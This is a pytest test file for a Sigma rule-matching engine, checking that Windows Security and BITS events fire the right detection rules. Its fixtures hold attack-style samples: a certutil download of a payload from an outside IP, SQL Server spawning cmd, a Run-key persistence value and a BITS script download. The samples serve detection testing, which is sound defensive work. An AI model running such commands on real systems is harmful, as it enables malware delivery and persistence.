"""Matching infers an event's log source from the one taxonomy (catalog.core.taxonomy) and runs every rule through
every event the taxonomy maps it to.

- a Security 4688 runs the process_creation rules, read with the audit pipeline's renames (NewProcessName as
  Image, ParentProcessName as ParentImage, SubjectLogonId as LogonId...), and the explanation shows them;
  4657 runs registry_*, 5156 network_connection, 4663 file_event;
- a service's rules run on the events of every channel the taxonomy gives it (bits-client's did not);
- each SigmaHQ regression event of Sysmon 1 / 11 / 13, rewritten as the Security event its category maps to,
  fires its rule whenever the rule reads only fields that Security event logs.
"""

import json
from collections import defaultdict

import pytest
import yaml

from catalog.core import taxonomy
from catalog.core.sigma.evaluate import flatten_event, load_events
from catalog.core.taxonomy.security import SECURITY_SCHEMAS
from catalog.matching.compiled import EventFacts
from catalog.matching.engine import forget_compiled, match_events, warm
from catalog.matching.logsources import infer
from catalog.models import Predicate, Rule
from tests.constants import CERTUTIL_ID, CORPUS

CERTUTIL_ON_4688 = {
    "Channel": "Security",
    "EventID": 4688,
    "Computer": "ws01.example.org",
    "SubjectUserName": "alice",
    "SubjectLogonId": "0x3e7",
    "ProcessId": "0x1f4",
    "NewProcessId": "0x2a0",
    "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
    "ParentProcessName": "C:\\Windows\\explorer.exe",
    "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin",
}
# SQL Server starting a shell, as the Security log records it (no Sysmon on the host).
SQLSERVR_CMD_4688 = {
    "Channel": "Security",
    "EventID": 4688,
    "Computer": "sql01.example.org",
    "SubjectUserName": "svc_sql",
    "SubjectLogonId": "0x3e7",
    "NewProcessId": "0x1a2c",
    "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
    "ProcessId": "0x7b8",
    "ParentProcessName": "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
    "CommandLine": "cmd.exe /c whoami",
}
SQL_SERVER_CHILD = "869b9ca7-9ea2-4a5a-8325-e80e62f75445"  # Suspicious Child Process Of SQL Server


@pytest.fixture(autouse=True)
def fresh_matcher():
    forget_compiled()
    yield
    forget_compiled()


def post(client, event, query=""):
    answer = client.post(f"/api/match/{query}", json.dumps(event), content_type="application/json")
    assert answer.status_code == 200
    return answer.json()["events"][0]


def predicates(explanation):
    return [p for block in explanation["blocks"] for group in block["groups"] for p in group["predicates"]]


def test_a_4688_event_fires_a_process_creation_rule_read_with_the_renames(client, example_rules):
    event = post(client, CERTUTIL_ON_4688)
    assert event["logsource"]["service"] == "security"
    assert [m["category"] for m in event["logsource"]["mapped"]] == ["process_creation"]
    fired = {rule["id"]: rule for rule in event["rules"]}
    assert CERTUTIL_ID in fired
    explanation = fired[CERTUTIL_ID]["explanation"]
    assert explanation["fired"] and explanation["via"]["event"] == "security:4688"
    image = next(p for p in predicates(explanation) if p["field"] == "Image")
    assert (image["result"], image["event_field"], image["renamed_from"]) == (True, "Image", "NewProcessName")
    original = next(p for p in predicates(explanation) if p["field"] == "OriginalFileName")
    assert original["result"] is None and original["not_carried"]  # 4688 does not log it: undecidable

    page = client.post("/match/", {"event": json.dumps(CERTUTIL_ON_4688)}).content.decode()
    assert "Image (NewProcessName)" in page and "not logged by Security 4688" in page


def test_a_4688_whose_fields_do_not_match_fires_no_process_creation_rule(client, example_rules):
    harmless = {**CERTUTIL_ON_4688, "NewProcessName": "C:\\Windows\\notepad.exe", "CommandLine": "notepad.exe"}
    assert CERTUTIL_ID not in {rule["id"] for rule in post(client, harmless)["rules"]}


def test_why_not_on_a_4688_is_explained_through_the_mapping(client, example_rules):
    harmless = {**CERTUTIL_ON_4688, "CommandLine": "certutil.exe -dump"}
    why_not = post(client, harmless, f"?why_not={CERTUTIL_ID}")["why_not"]
    assert why_not["explanation"]["via"]["event"] == "security:4688" and not why_not["explanation"]["fired"]


@pytest.mark.corpus
@pytest.mark.one_database  # matching in Python; the example-rule tests above post 4688s on both databases
def test_sqlservr_starting_cmd_on_4688_fires_the_sql_server_rule_with_the_renames(client, corpus, corpus_matcher):
    event = post(client, SQLSERVR_CMD_4688)
    fired = {rule["id"]: rule for rule in event["rules"]}
    assert SQL_SERVER_CHILD in fired
    shown = {p["field"]: p for p in predicates(fired[SQL_SERVER_CHILD]["explanation"]) if p["result"] is True}
    assert shown["ParentImage"]["renamed_from"] == "ParentProcessName"
    assert shown["Image"]["renamed_from"] == "NewProcessName"
    # The same process start logged by Sysmon fires the same rule: the renames are the only difference.
    sysmon = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Image": SQLSERVR_CMD_4688["NewProcessName"],
        "ParentImage": SQLSERVR_CMD_4688["ParentProcessName"],
        "CommandLine": SQLSERVR_CMD_4688["CommandLine"],
    }
    assert SQL_SERVER_CHILD in {rule["id"] for rule in post(client, sysmon)["rules"]}


@pytest.mark.corpus
@pytest.mark.one_database
@pytest.mark.parametrize(
    ("event", "category"),
    [
        (
            {
                "EventID": 5156,
                "Application": "\\device\\harddiskvolume2\\windows\\system32\\rundll32.exe",
                "Direction": "%%14593",
                "DestAddress": "203.0.113.7",
                "DestPort": "4444",
                "SourceAddress": "10.0.0.5",
                "SourcePort": "50000",
                "Protocol": "6",
            },
            "network_connection",
        ),
        (
            {
                "EventID": 4663,
                "ProcessName": "C:\\Windows\\System32\\rundll32.exe",
                "ObjectName": "C:\\Users\\Public\\evil.dll",
                "ObjectType": "File",
            },
            "file_event",
        ),
        (
            {
                "EventID": 4657,
                "OperationType": "%%1905",
                "ProcessName": "C:\\Windows\\System32\\reg.exe",
                "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "ObjectValueName": "updater",
                "NewValue": "C:\\Users\\Public\\evil.exe",
            },
            "registry_set",
        ),
    ],
)
def test_every_mapped_security_event_runs_its_categorys_rules(client, corpus, corpus_matcher, event, category):
    answer = post(client, {"Channel": "Security", **event})
    assert category in [m["category"] for m in answer["logsource"]["mapped"]]
    through = [rule for rule in answer["rules"] if (rule.get("explanation") or {}).get("via")]
    assert through, f"no {category} rule fired on Security {event['EventID']}"
    for rule in through:
        assert rule["explanation"]["fired"] and rule["explanation"]["via"]["event"] == f"security:{event['EventID']}"
        assert Rule.objects.get(uuid=rule["id"]).category.startswith(category.split("_")[0])


@pytest.mark.corpus
@pytest.mark.one_database
def test_every_channel_runs_the_rules_of_the_services_that_select_it(corpus, corpus_matcher):
    """For every service with live rules and every channel the taxonomy gives it, an event of that channel with
    one of the rule's event ids has the rule among those matching evaluates (its pool)."""
    catalog = warm()
    number = {candidate.rule.pk: n for n, candidate in enumerate(catalog.candidates)}
    checked = 0
    for rule in (
        Rule.objects.live().filter(product="windows", rule_type="rule").exclude(service="").prefetch_related("events")
    ):
        if rule.pk not in number:
            continue
        for channel in taxonomy.service_channels().get(rule.service, ()):
            for stored in rule.events.all():
                event = {"Channel": channel, "EventID": stored.event_id if stored.event_id is not None else 1}
                assert number[rule.pk] in catalog.pool(EventFacts.of(event), infer(event)).members, (rule, channel)
                checked += 1
    assert checked >= 300


@pytest.mark.corpus
@pytest.mark.one_database
def test_the_bits_client_rules_run_on_bits_client_events(corpus, corpus_matcher):
    bits = set(Rule.objects.live().filter(service="bits-client").values_list("uuid", flat=True))
    assert len(bits) == 7
    event = {
        "Channel": "Microsoft-Windows-Bits-Client/Operational",
        "EventID": 16403,
        "RemoteName": "http://203.0.113.7/a.ps1",
        "LocalName": "C:\\Users\\Public\\a.ps1",
    }
    (result,) = match_events([event], None)
    assert result.source.service == "bits-client"
    assert len(bits & {rule.uuid for rule in result.rules}) >= 3


def as_security_event(sysmon: dict, category: str, event_id: int) -> dict:
    """A Sysmon event as the Security event the taxonomy maps its category to would log it: each renamed Sigma
    field under its Security name (coded values back to codes), the fields that event logs kept, the rest dropped."""
    source = next(s for s in taxonomy.category_sources()[category] if s.token == f"security:{event_id}")
    renames, schema = dict(source.renames), SECURITY_SCHEMAS[event_id]
    codes = {"Initiated": {"true": "%%14593", "false": "%%14592"}, "Protocol": {"tcp": "6", "udp": "17"}}
    event = {"Channel": "Security", "EventID": event_id, "Computer": sysmon.get("Computer", "")}
    for key, value in sysmon.items():
        if key in renames:
            event[renames[key]] = codes.get(key, {}).get(str(value).lower(), value)
        elif key in schema:
            event[key] = value
    if event_id == 4657:
        event["OperationType"] = "%%1905"  # Sysmon 13 SetValue: "Existing registry value modified"
    return event


SECURITY_OF = {1: ("process_creation", 4688), 3: ("network_connection", 5156), 11: ("file_event", 4663)}
SECURITY_OF[13] = ("registry_set", 4657)


@pytest.mark.corpus
@pytest.mark.long
@pytest.mark.one_database
def test_regression_events_rewritten_as_security_events_fire_their_rules(corpus, corpus_matcher):
    """Each regression case of Sysmon 1 / 3 / 11 / 13 whose rule reads only fields the mapped Security event
    logs: one of its events, rewritten as that Security event, fires the rule."""
    cases = defaultdict(list)  # (rule uuid, folder) -> rewritten events
    for info in sorted((CORPUS / "regression_data").rglob("info.yml")):
        rule_id = yaml.safe_load(info.read_text(encoding="utf-8"))["rule_metadata"][0]["id"]
        for path in sorted(info.parent.glob("*.json")):
            for raw in load_events(path.read_text(encoding="utf-8")):
                event = flatten_event(raw)
                category_and_id = SECURITY_OF.get(int(event.get("EventID") or 0))
                if "Sysmon" in str(event.get("Channel")) and category_and_id:
                    cases[(rule_id, info.parent.name)].append(as_security_event(event, *category_and_id))
    checked = 0
    for (rule_id, folder), events in cases.items():
        rule = Rule.objects.get(uuid=rule_id)
        source = next((s for s in taxonomy.category_sources().get(rule.category, ()) if s.mapped), None)
        fields = set(Predicate.objects.filter(rule=rule).exclude(field="").values_list("field", flat=True))
        if source is None or source.event_id != events[0]["EventID"] or not all(map(source.carries, fields)):
            continue  # a field the Security event does not log: undecidable there, by design
        fired = [rule in result.rules for result in match_events(events, None)]
        assert any(fired), f"{folder}: {rule.title} on Security {events[0]['EventID']}"
        checked += 1
    assert checked >= 50
